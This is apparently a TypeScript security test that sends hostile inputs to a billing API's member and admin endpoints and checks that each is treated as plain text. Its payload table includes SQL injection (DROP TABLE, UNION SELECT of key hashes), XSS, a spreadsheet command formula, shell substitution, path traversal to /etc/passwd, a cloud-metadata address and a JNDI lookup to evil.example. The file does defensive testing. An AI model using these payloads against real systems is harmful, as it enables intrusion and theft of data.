// Proves: a text is a text. What would be a command to a database, a page, a shell, a spreadsheet or a terminal is stored,
// looked for and shown as it is written, opens no other rows, and is never an error of ours.
import type { AnswerOf, keys } from '@tollgate/api';
import { type HostileArea, type HostileCase, must } from '../area.ts';

const EVIL_TEXTS: Readonly<Record<string, string>> = {
  'a quote': "'",
  'a quote and a comment': "' OR '1'='1' --",
  'a dropped table': "'; DROP TABLE billing.usage; --",
  'a union': "' UNION SELECT key_hash FROM billing.api_key --",
  'a sleep': "'; SELECT pg_sleep(10); --",
  'a cast': "1'::int",
  'a parameter': '$1',
  dollars: '$$; SELECT 1; $$',
  wildcards: '%_%',
  'a backslash': '\\',
  'a null': 'a\u0000b',
  'half a character': 'a\ud800b',
  'a script': '<script>alert(1)</script>',
  'a picture': '"><img src=x onerror=alert(1)>',
  'a link': 'javascript:alert(1)',
  'a template': '{{constructor.constructor("alert(1)")()}}',
  'a template of the server': '${7*7}#{7*7}<%= 7*7 %>',
  'a formula': '=1+1',
  'a formula with a plus': '+1+1',
  'a formula with a minus': '-1+1',
  'a formula with an at': '@SUM(1)',
  'a formula after a tab': '\t=1+1',
  'a full-width formula': '＝1+1',
  'a command': '=cmd|" /C calc"!A0',
  'a shell': '$(touch /tmp/hostile)`id`',
  'a header': 'a\r\nset-cookie: a=b',
  'a terminal': '\u001b[2J\u001b]0;hostile\u0007',
  'right to left': '\u202eexe.txt',
  'a path': '../../../../etc/passwd',
  'an address': 'http://169.254.169.254/latest/meta-data/',
  'an object': '{"$gt":""}',
  'a name of objects': '__proto__',
  'a lookup': '${jndi:ldap://evil.example/a}',
  'a long text': 'x'.repeat(50_000),
};

/** Where a text is looked for, or stands for an id. */
const QUERIES: readonly ((text: string) => string)[] = [
  (text) => `/api/usage?model=${text}`,
  (text) => `/api/usage?request_id=${text}`,
  (text) => `/api/usage?cursor=${text}`,
  (text) => `/api/usage?from=${text}`,
  (text) => `/api/usage/summary?from=2026-01-01T00:00:00Z&to=2026-01-02T00:00:00Z&by=${text}`,
  (text) => `/api/ledger/transactions?cursor=${text}`,
  (text) => `/api/ledger/transactions/${text}`,
  (text) => `/api/statements/${text}`,
  (text) => `/api/keys?limit=${text}`,
];
const OPERATOR_QUERIES: readonly ((text: string) => string)[] = [
  (text) => `/api/accounts?find=${text}`,
  (text) => `/api/audit-log?actor=${text}`,
  (text) => `/api/audit-log?object=${text}`,
  (text) => `/api/catalogue/versions/${text}`,
];

const encoded = (text: string): string =>
  Buffer.from(text.slice(0, 2_000))
    .toString('latin1')
    .replace(/[^A-Za-z0-9]/g, (sign) => `%${sign.charCodeAt(0).toString(16).padStart(2, '0')}`);

export const texts: HostileArea = {
  name: 'members/texts',
  proves: 'no text is taken for a command, wherever it is written or looked for',
  cases({ people, victim, send }) {
    const { cookie } = people.member;
    const look = (name: string, path: string, as: string): HostileCase => ({
      name,
      async run() {
        const startedAt = performance.now();
        const { status, text } = await send(path, { headers: { cookie: as } });
        must(status < 500, () => `${status} ${text.slice(0, 200)}`);
        must(performance.now() - startedAt < 9_000, () => 'it slept');
        if (as === cookie)
          for (const mark of victim.marks) must(!text.includes(mark), () => 'it shows rows of somebody else');
        must(!/syntax error|QueryFailedError|pg_catalog/i.test(text), () => `it shows the database: ${text}`);
      },
    });
    const paths = (queries: typeof QUERIES, as: string, who: string) =>
      Object.entries(EVIL_TEXTS).flatMap(([name, evil]) =>
        queries.map((query) => look(`${who}: ${name} in ${query('…')}`, query(encoded(evil)), as)),
      );
    const stored: HostileCase[] = Object.entries(EVIL_TEXTS).map(([name, evil]) => ({
      name: `the name of a key: ${name}`,
      async run() {
        const made = await send('/api/keys', { headers: { cookie }, body: { name: evil } });
        must(made.status < 500, () => `${made.status} ${made.text.slice(0, 200)}`);
        if (made.status >= 300) return;
        const { id } = JSON.parse(made.text) as AnswerOf<typeof keys.createKey>;
        const list = await send('/api/keys?limit=200', { headers: { cookie } });
        const { items } = JSON.parse(list.text) as AnswerOf<typeof keys.listKeys>;
        const found = items.find((item) => item.id === id)?.name;
        must(found === undefined || found === evil.trim(), () => `it came back as ${String(found)}`);
        must(String(list.headers['content-type']).startsWith('application/json'), () => 'it is no JSON');
        await send(`/api/keys/${id}`, { method: 'DELETE', headers: { cookie } });
      },
    }));
    return [
      ...paths(QUERIES, cookie, 'a member'),
      ...paths(OPERATOR_QUERIES, people.admin.cookie, 'an admin'),
      ...stored,
    ];
  },
};
